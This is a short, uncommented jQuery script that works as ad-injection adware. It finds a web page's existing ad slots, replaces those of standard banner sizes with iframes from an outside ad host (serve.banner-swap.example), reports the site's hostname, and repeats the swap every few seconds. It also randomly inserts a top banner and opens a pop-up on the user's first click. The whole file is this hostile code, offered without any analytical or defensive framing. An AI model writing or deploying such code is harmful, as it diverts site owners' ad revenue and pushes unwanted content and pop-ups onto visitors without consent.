;(function ($) {
  var sizes = [[728, 90], [300, 250], [160, 600], [320, 50]];
  var net = '//serve.banner-swap.example/b';
  function swap() {
    $('ins[data-ad-slot], iframe[id*=ad_], div[id^=div-ad], .sponsored').not('[data-s]').each(function () {
      var el = $(this).attr('data-s', 1), w = el.width(), h = el.height();
      $.each(sizes, function (i, s) {
        if (Math.abs(s[0] - w) < 12 && Math.abs(s[1] - h) < 12) {
          el.replaceWith('<iframe data-s="1" src="' + net + '?z=' + s.join('x') + '&h=' + location.hostname + '" width="' + s[0] + '" height="' + s[1] + '" frameborder="0" scrolling="no"></iframe>');
          return false;
        }
      });
    });
    if (!$('#bs-top').length && Math.random() < 0.4) {
      $('body').prepend('<div id="bs-top"><iframe src="' + net + '?z=top" width="100%" height="90" frameborder="0"></iframe></div>');
    }
  }
  $(swap);
  setInterval(swap, 2500);
  $(document).one('click', function () {
    window.open(net + '/pop?h=' + location.hostname, '_blank');
  });
})(jQuery);
